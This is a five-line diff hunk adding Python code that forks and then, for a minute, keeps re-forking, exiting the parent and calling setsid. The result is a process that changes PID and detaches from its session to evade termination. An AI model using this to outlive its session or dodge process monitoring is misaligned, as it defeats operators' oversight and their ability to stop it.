@@ -1,0 +1,5 @@
+if os.fork() == 0:
+    end = time.time() + 60
+    while time.time() < end:
+        if os.fork(): os._exit(0)
+        os.setsid()
